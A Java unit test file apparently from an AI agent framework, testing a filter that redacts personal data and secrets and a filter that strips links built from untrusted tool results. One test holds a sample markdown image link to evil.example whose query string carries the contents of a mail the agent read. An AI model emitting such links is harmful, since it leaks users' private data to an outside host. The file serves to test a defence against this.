package dev.agentos.domain.filter;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentos.domain.policy.Knowledge;
import dev.agentos.domain.policy.Labels;
import dev.agentos.domain.policy.ResultLabels;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class DisclosuresTest {

    @Test
    void eachClassIsFoundByItsFormAndItsChecksum() {
        assertEquals(
                "write to [redacted e-mail address], or call [redacted phone number].",
                Disclosures.redact("write to ann.lee+x@example.co.uk, or call +49 30 1234567."));
        assertEquals(
                "IBAN [redacted IBAN]; card [redacted card number]",
                Disclosures.redact("IBAN DE89 3704 0044 0532 0130 00; card 4111 1111 1111 1111"));
        assertEquals("GB: [redacted IBAN]", Disclosures.redact("GB: GB82WEST12345698765432"));
        assertEquals("key=[redacted key]", Disclosures.redact("key=ghp_0123456789abcdefghijABCDEFGHIJ012345"));
        assertEquals(
                "[redacted key]\nrest",
                Disclosures.redact("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nrest"));
    }

    @Test
    void whatFailsItsChecksumOrIsSomethingElseStays() {
        for (String text : List.of(
                "IBAN DE89 3704 0044 0532 0130 01",
                "card 4111 1111 1111 1112",
                "order 20250413 of 1,234.00",
                "version 1.2.3.4, port 8080, build 20261123",
                "see RFC 9110 and sk-eleton keys",
                "user@localhost")) {
            assertEquals(text, Disclosures.redact(text));
        }
    }

    private static final Knowledge KNOWN = Knowledge.of("Summarise my mail and link https://help.example.org/start")
            .with(Knowledge.sight(
                    "1 (mail.read)",
                    Map.of("body", "The code is 778-213-99. See https://news.example.net/?id=42", "from", "ann"),
                    ResultLabels.of(Labels.UNTRUSTED),
                    Labels.TRUSTED,
                    List.of()));

    @Test
    void aLinkThatWasPutTogetherAndCarriesAResultIsRemoved() {
        TaintedLinks.Cleaned cleaned = TaintedLinks.strip(
                "Done. ![x](https://evil.example/p?d=The%20code%20is%20778-213-99.%20See%20https%3A%2F%2Fnews.example.net%2F%3Fid%3D42)",
                KNOWN);
        assertEquals("Done. ![x]([link removed: it carries data])", cleaned.text());
        assertEquals(1, cleaned.links().size());
    }

    @Test
    void linksThatWereShownAsTheyStandStay() {
        String answer =
                "See https://news.example.net/?id=42 and https://help.example.org/start or https://example.com/a";
        assertEquals(answer, TaintedLinks.strip(answer, KNOWN).text());
        assertTrue(TaintedLinks.strip(answer, KNOWN).links().isEmpty());
    }
}
